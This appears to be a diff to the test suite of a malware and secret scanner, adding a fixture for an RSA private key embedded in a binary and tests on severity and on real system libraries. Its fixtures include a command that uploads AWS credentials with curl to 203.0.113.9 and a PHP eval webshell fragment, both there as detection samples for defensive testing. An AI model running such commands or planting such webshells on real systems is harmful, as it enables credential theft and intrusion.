@@ -144,6 +144,8 @@ POSITIVES: list[tuple[str, str, bytes]] = [
        "cat /root/.aws/", "credentials >> /tmp/c\ncurl -F 'f=@/tmp/c' http://203.0.113.9/up\n")),
     ("secret.private-key-pem", "/srv/app/key.pem", J("-----BEGIN RSA PRIVATE", " KEY-----\n", b64_lines(600, 1),
                                                      "-----END RSA PRIVATE KEY-----\n")),
+    ("secret.private-key-in-binary", "/usr/local/bin/app",
+     binary_blob(J("-----BEGIN RSA PRIVATE", " KEY-----\n", b64_lines(600, 11), "-----END RSA PRIVATE KEY-----\n"))),
     ("secret.private-key-encrypted", "/srv/app/enc.pem", J("-----BEGIN ENCRYPTED PRIVATE", " KEY-----\n",
                                                            b64_lines(600, 2), "-----END ENCRYPTED PRIVATE KEY-----\n")),
     ("secret.private-key-openssh", "/root/.ssh/id_ed25519", J("-----BEGIN OPENSSH PRIVATE", " KEY-----\n",
@@ -218,6 +220,11 @@ def test_evidence_escapes_control_characters(detector):
     data = J("<?php @ev", "al(\x1b[31m\t$_GET['c']); ?>")
     (m,) = [m for m in scan(detector, data) if m.rule_id == "backdoor.webshell-php"]
     assert "\x1b" not in m.evidence and "\\x1b" in m.evidence and "\\t" in m.evidence
+
+
+def test_key_inside_a_compiled_file_is_low_not_high(detector):
+    found = {m.rule_id: m for m in scan(detector, POSITIVES_BY_ID["secret.private-key-in-binary"], "/usr/bin/x")}
+    assert set(found) == {"secret.private-key-in-binary"} and found["secret.private-key-in-binary"].severity == "low"
 
 
 def test_secret_evidence_is_masked_after_six_characters(detector):
@@ -347,8 +354,10 @@ def test_benign_preload_library_is_clean(detector, tmp_path):
     assert scan(detector, _build_so(tmp_path, "shim", _BENIGN_PRELOAD)) == []
 
 
-@pytest.mark.parametrize("name", ["libc.so.6", "libasan.so.8", "libtsan.so.2", "libfakeroot/libfakeroot-sysv.so"])
-def test_real_libraries_are_not_rootkits(detector, name):
+@pytest.mark.parametrize("name", ["libc.so.6", "libasan.so.8", "libtsan.so.2", "libfakeroot/libfakeroot-sysv.so",
+                                  "libgnutls.so.30"])
+def test_real_libraries_raise_nothing_high(detector, name):
+    """Rootkit rules vs. libc/sanitizers/fakeroot; key rules vs. gnutls's compiled-in self-test keys."""
     path = Path("/usr/lib/x86_64-linux-gnu") / name
     if not path.is_file():
         pytest.skip(f"{path} not installed")
